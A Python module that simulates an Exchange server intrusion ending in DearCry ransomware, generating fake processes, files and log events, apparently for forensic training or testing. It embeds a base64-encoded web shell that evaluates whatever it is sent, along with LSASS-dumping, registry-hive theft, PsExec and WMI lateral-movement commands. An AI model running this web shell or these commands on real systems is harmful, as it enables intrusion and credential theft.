"""What intruders did on a server once they were in: processes, files, services, settings, told once for all logs."""

import base64
from collections.abc import Callable, Iterator, Mapping
from datetime import datetime

from postvakt.estate import culprits, shells
from postvakt.estate.deeds import Command, Deed, LeftFile, acts
from postvakt.estate.memory.minidump import bare
from postvakt.estate.plans import Actor, ServerPlan
from postvakt.estate.stories import Step

SYSTEM = "C:\\Windows\\System32\\"
WORKER = f"{SYSTEM}inetsrv\\w3wp.exe"
SHELL = f"{SYSTEM}cmd.exe"
SERVICES = f"{SYSTEM}services.exe"
TEMP = "C:\\Windows\\Temp\\"
DUMP_FILE = f"{TEMP}lsass.dmp"
PSEXEC = f"{TEMP}PsExec64.exe"
ENCRYPTOR = f"{TEMP}msupdate.exe"
SERVICE = "msupdate"
"""The service as which DearCry ran."""

NEIGHBOUR = "dc01"
STOLEN = "svc-backup"
"""The account whose password the intruder used on the neighbour."""

ASPNET = "C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"
CRYPT_HEAD = base64.b64decode("REVBUkNSWSE=")
UM_PAGE = base64.b64decode(
    "PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJwdm8zIl0sInVuc2FmZSIpOyU+DQo="
)
"""A page that runs what it is sent, as Unified Messaging was made to write one."""

NOTE = b"Your files are gone for now. This note is an example; nobody reads the address.\r\n"


def commands(server: ServerPlan) -> Iterator[Command]:
    """Yield the processes that intruders started, in order."""
    for actor in server.actors:
        for step in actor.steps:
            if step in COMMANDS:
                yield from COMMANDS[step](server, actor)


def _by_shell(
    server: ServerPlan, actor: Actor, step: Step, minute: float, folder: str, image: str, line: str, says: str
) -> Iterator[Command]:
    """Yield the command shell that a web shell opens, wrapped as its client wraps each command, and what that
    started."""
    owner = server.actors[0] if step == "ransom" else actor
    name = image.rpartition("\\")[2].removesuffix(".exe").lower()
    wrapped = f'"cmd" /c cd /d "{folder}"&{line}&echo [S]&cd&echo [E]'
    yield Command(
        actor=actor,
        step=step,
        name=f"{name}-shell",
        minute=minute,
        says=f"The web server started a command shell for the web shell: {says}",
        image=SHELL,
        line=wrapped,
        parent=WORKER,
        pool="MSExchangeOWAAppPool" if shells.shell(server, owner).pool == "owa" else "DefaultAppPool",
    )
    yield Command(
        actor=actor,
        step=step,
        name=name,
        minute=round(minute + 0.1, 1),
        says=says,
        image=image,
        line=line,
        parent=SHELL,
    )


def _use(server: ServerPlan, actor: Actor) -> Iterator[Command]:
    root = "c:\\inetpub\\wwwroot"
    yield from _by_shell(
        server, actor, "use", 31.0, root, f"{SYSTEM}whoami.exe", "whoami", "The intruder asked who it is."
    )
    yield from _by_shell(
        server,
        actor,
        "use",
        31.6,
        root,
        f"{SYSTEM}net.exe",
        'net group "Domain computers" /domain',
        "The intruder listed the computers of the domain.",
    )


def _dump(server: ServerPlan, actor: Actor) -> Iterator[Command]:
    line = f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 612 {DUMP_FILE} full"
    yield from _by_shell(
        server,
        actor,
        "dump",
        33.2,
        "c:\\windows\\temp",
        f"{SYSTEM}rundll32.exe",
        line,
        "The intruder wrote the memory of LSASS to a file.",
    )


def _spread(server: ServerPlan, actor: Actor) -> Iterator[Command]:
    run = 'cmd /c "ipconfig /all > c:\\windows\\temp\\o.txt"'
    for minute, image, line, says in (
        (52.0, f"{SYSTEM}net.exe", f"net use \\\\{NEIGHBOUR}\\c$ Example-pw-1 /user:CORP\\{STOLEN}",
         "The intruder opened the neighbour's drive with a stolen account."),
        (53.5, PSEXEC, f"{PSEXEC} -accepteula \\\\{NEIGHBOUR} -s {run}",
         "The intruder ran a command on the neighbour by PsExec."),
        (56.0, f"{SYSTEM}wbem\\WMIC.exe", f"wmic /node:{NEIGHBOUR} process call create \"cmd /c whoami\"",
         "The intruder started a process on the neighbour by WMI."),
    ):  # fmt: skip
        yield from _by_shell(server, actor, "spread", minute, "c:\\windows\\temp", image, line, says)


def _ransom(server: ServerPlan, actor: Actor) -> Iterator[Command]:
    batch = f"{TEMP}xx.bat"
    yield from _by_shell(
        server,
        actor,
        "ransom",
        2.0,
        "c:\\windows\\temp",
        SHELL,
        f"cmd /c {batch}",
        "The intruder ran a batch file that saves the registry's secrets.",
    )
    for number, hive in enumerate(("sam", "system", "security")):
        yield Command(
            actor=actor,
            step="ransom",
            name=f"save-{hive}",
            minute=2.2 + number / 10,
            says="The batch file saved a hive that holds secrets.",
            image=f"{SYSTEM}reg.exe",
            line=f"reg save hklm\\{hive} {TEMP}{hive} /y",
            parent=SHELL,
        )
    yield Command(
        actor=actor,
        step="ransom",
        name="encryptor",
        minute=10.1,
        says="The service began to encrypt files.",
        image=ENCRYPTOR,
        line=ENCRYPTOR,
        parent=SERVICES,
    )


COMMANDS: Mapping[Step, Callable[[ServerPlan, Actor], Iterator[Command]]] = {
    "use": _use,
    "dump": _dump,
    "spread": _spread,
    "ransom": _ransom,
    **culprits.COMMANDS,
}


def left_files(server: ServerPlan) -> Iterator[LeftFile]:
    """Yield the files that intruders left. What a wiping intruder took away again is told as removed."""
    for actor in server.actors:
        for step in actor.steps:
            if step in LEFT:
                yield from LEFT[step](server, actor)


def _left(
    server: ServerPlan, actor: Actor, step: Step, name: str, minute: float, path: str, content: bytes,
    image: str, says: str,
) -> LeftFile:  # fmt: skip
    return LeftFile(
        actor=actor,
        step=step,
        name=name,
        minute=minute,
        says=says,
        path=path,
        content=content,
        image=image,
        removed=server.wiped is not None,
    )


def _page(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    text = shells.oab_dump(server, actor).encode()
    path = shells.shell(server, actor).path
    says = "The virtual directory was written to a page: the web shell."
    yield _left(server, actor, "write", "shell", 6.8, path, text, WORKER, says)


def _compiled(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    page = shells.shell(server, actor)
    path = f"{ASPNET}/{page.pool}/e22c2559/92c7e946/{page.compiled}"
    says = "ASP.NET compiled the web shell when it was first asked for."
    content = shells.compiled_page(page).encode()
    yield _left(server, actor, "use", "compiled", 31.0, path, content, WORKER, says)


def _dump_file(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    """A dump of LSASS with noise for its memory; it holds nobody's secrets."""
    noise = server.random("dump").randbytes(4096)
    content = bare(f"{SYSTEM}lsass.exe", 612, 14393, actor.at(33.4), noise)
    says = "A file with the memory of LSASS lies in the temporary folder."
    path = "C/Windows/Temp/lsass.dmp"
    yield _left(server, actor, "dump", "memory", 33.4, path, content, f"{SYSTEM}rundll32.exe", says)


def _tool(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    content = b"MZ" + server.random("tool").randbytes(512)
    says = "The intruder put PsExec into the temporary folder."
    yield _left(server, actor, "spread", "psexec", 53.0, "C/Windows/Temp/PsExec64.exe", content, WORKER, says)


def _encrypted(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    dice = server.random("encrypted")
    batch = b"@echo off\r\n" + b"".join(
        b"reg save hklm\\%s c:\\windows\\temp\\%s /y\r\n" % (hive, hive)
        for hive in (b"sam", b"system", b"security")
    )
    encrypted = "A file was encrypted by the ransomware."
    for name, minute, path, content, image, says in (
        ("batch", 1.8, "C/Windows/Temp/xx.bat", batch, WORKER, "The intruder left a batch file."),
        ("encryptor", 9.8, "C/Windows/Temp/msupdate.exe", b"MZ" + dice.randbytes(512), WORKER,
         "The intruder left the ransomware's program."),
        ("page", 11.0, "C/inetpub/wwwroot/iisstart.png.CRYPT", CRYPT_HEAD + dice.randbytes(900), ENCRYPTOR, encrypted),
        ("sheet", 11.1, "C/Users/Public/Documents/plan.xlsx.CRYPT", CRYPT_HEAD + dice.randbytes(4000),
         ENCRYPTOR, encrypted),
        ("note", 11.5, "C/readme.txt", NOTE, ENCRYPTOR, "The ransomware left its note."),
    ):  # fmt: skip
        yield _left(server, actor, "ransom", name, minute, path, content, image, says)


def _um_page(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    path = f"{server.machine.exchange}/ClientAccess/Owa/auth/help.aspx"
    says = "Unified Messaging wrote a page that runs what it is sent."
    yield _left(server, actor, "um", "page", 0.2, path, UM_PAGE, um_worker(server), says)


def um_worker(server: ServerPlan) -> str:
    """Return the program of Unified Messaging that the flaw made run foreign code."""
    return f"{server.machine.install_path}Bin\\UMWorkerProcess.exe"


LEFT: Mapping[Step, Callable[[ServerPlan, Actor], Iterator[LeftFile]]] = {
    "write": _page,
    "use": _compiled,
    "dump": _dump_file,
    "spread": _tool,
    "ransom": _encrypted,
    "um": _um_page,
    **culprits.LEFT,
}


def deed(actor: Actor, step: Step, name: str, time: datetime, says: str) -> Deed:
    """Return a deed that only one log tells of."""
    minute = (time - actor.began).total_seconds() / 60
    return Deed(actor=actor, step=step, name=name, minute=minute, says=says)


def um_casts(server: ServerPlan) -> Iterator[Deed]:
    """Yield the failures that Unified Messaging reported while it ran what it was sent."""
    for actor in acts(server, "um"):
        yield deed(
            actor,
            "um",
            "cast",
            actor.began,
            "Unified Messaging failed to cast what it had read from a message, having run it.",
        )


def explicit_sign_ins(server: ServerPlan) -> Iterator[Deed]:
    """Yield the sign-ins to the neighbour with the stolen account."""
    for actor in acts(server, "spread"):
        for number, minute in enumerate((52.1, 53.6)):
            yield deed(
                actor,
                "spread",
                f"sign-in-{number + 1}",
                actor.at(minute),
                "A process of the system signed in to the neighbour with the stolen account.",
            )


def clearings(server: ServerPlan) -> Iterator[tuple[Actor, datetime]]:
    """Yield who cleared the logs, and when."""
    if server.wiped is not None:
        for actor in acts(server, "wipe"):
            yield actor, server.wiped


def service_installed(server: ServerPlan) -> Iterator[Deed]:
    """Yield the service that the ransomware made of itself."""
    for actor in acts(server, "ransom"):
        yield deed(
            actor, "ransom", "service", actor.at(10.0), "The ransomware installed itself as a service."
        )


def licence_accepted(server: ServerPlan) -> Iterator[Deed]:
    """Yield the mark that PsExec leaves in the profile of who ran it: the system's."""
    for actor in acts(server, "spread"):
        yield deed(
            actor,
            "spread",
            "licence",
            actor.at(53.6),
            "PsExec's licence was accepted under the system's account.",
        )
